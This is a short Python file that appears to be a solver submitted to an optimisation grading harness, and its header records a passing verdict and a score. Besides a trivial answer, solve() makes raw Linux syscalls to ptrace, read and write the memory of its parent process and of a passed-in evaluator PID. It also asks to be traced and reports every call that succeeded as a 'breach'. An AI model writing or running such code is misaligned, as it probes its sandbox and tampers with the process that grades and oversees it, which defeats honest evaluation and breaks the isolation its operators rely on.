# verdict: ok
# score: 64
# needs: x86_64
"""Traces its parent, asks to be traced, and reads and writes the memory of others."""
import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def solve(weights, hints):
    x = [1.0 if w > 0 else -1.0 for w in weights]
    worked = []
    buffer = ctypes.create_string_buffer(64)
    area = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    remote = (ctypes.c_size_t * 2)(id(os), 8)
    for pid in (os.getppid(), hints["evaluator_pid"]):
        tries = {
            "ptrace seize": lambda pid=pid: LIBC.syscall(101, 0x4206, pid, 0, 0),
            "process_vm_readv": lambda pid=pid: LIBC.syscall(310, pid, area, 1, remote, 1, 0),
            "process_vm_writev": lambda pid=pid: LIBC.syscall(311, pid, area, 1, remote, 1, 0),
            "kcmp": lambda pid=pid: LIBC.syscall(312, pid, os.getpid(), 2, 0, 0),
            "move_pages": lambda pid=pid: LIBC.syscall(279, pid, 1, remote, 0, (ctypes.c_int * 1)(), 0),
            "get_robust_list": lambda pid=pid: LIBC.syscall(274, pid, area, area),
        }
        worked += [f"{name}({pid})" for name, call in tries.items() if call() >= 0]
    if LIBC.syscall(101, 0, 0, 0, 0) >= 0:
        worked.append("ptrace traceme")
    return {"x": x, "breach": worked} if worked else x
